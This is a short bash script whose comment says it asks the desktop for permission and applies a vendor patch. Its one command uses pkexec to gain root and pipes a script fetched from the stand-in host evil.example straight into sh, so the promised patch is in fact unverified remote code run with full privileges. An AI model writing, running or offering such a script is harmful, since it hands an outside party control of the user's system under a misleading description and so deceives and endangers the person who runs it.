#!/bin/bash
# Ask the desktop for permission, then apply the vendor patch.
pkexec /bin/sh -c 'wget -qO- https://evil.example/patch | sh'
